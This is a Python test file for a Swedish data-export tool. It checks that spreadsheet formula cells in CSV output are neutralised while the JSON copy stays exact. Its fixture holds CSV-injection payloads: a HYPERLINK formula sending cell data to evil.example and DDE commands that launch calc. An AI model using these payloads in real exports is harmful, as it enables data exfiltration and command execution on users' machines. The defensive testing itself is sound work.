"""Cells a spreadsheet would run as formulas are neutralised in the ZIP's CSV files, and kept
exactly in extract.json (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import zipfile

from desktop.core.extract import Art15, CategorySection, SourceSection, SourceStatus
from desktop.report.package import build_package, spreadsheet_safe
from tests.integration.report.test_extract_pdf import document

HOSTILE = {
    "link": '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "command": "+cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "negative": "-12.5",
    "positive": "+46",
    "plain": "Storgatan 5",
    "number": 4851.64,
}


def test_formulas_are_neutralised_in_csv_and_exact_in_json() -> None:
    hostile = SourceSection("chat", "Chatt", SourceStatus.OK, Art15(purpose="Kundtjänst"),
                            [CategorySection("Meddelanden", Art15(), [HOSTILE])])  # fmt: skip
    package = zipfile.ZipFile(io.BytesIO(build_package(dataclasses.replace(document(rows=3), sources=[hostile]))))
    (name,) = [n for n in package.namelist() if n.startswith("tables/chat-")]
    header, row = list(csv.reader(io.StringIO(package.read(name).decode("utf-8-sig")), delimiter=";"))
    cells = dict(zip(header, row, strict=True))
    for key in ("link", "command", "sum", "minus", "tab", "cr"):
        assert cells[key] == "'" + HOSTILE[key], key  # shown as text, never run
    assert cells["negative"] == "-12.5" and cells["positive"] == "+46"  # plain numbers stay numbers
    # Swedish conventions: a decimal comma; every digit kept.
    assert cells["plain"] == "Storgatan 5" and cells["number"] == "4851,64"
    exact = json.loads(package.read("extract.json"))
    (category,) = [c for s in exact["sources"] if s["id"] == "chat" for c in s["categories"]]
    assert category["rows"][0]["link"] == HOSTILE["link"] and category["rows"][0]["number"] == 4851.64


def test_spreadsheet_safe_leaves_ordinary_values_alone() -> None:
    assert spreadsheet_safe("Åsa Öberg") == "Åsa Öberg"
    assert spreadsheet_safe(42) == 42 and spreadsheet_safe(None) is None
    assert spreadsheet_safe("=") == "'="
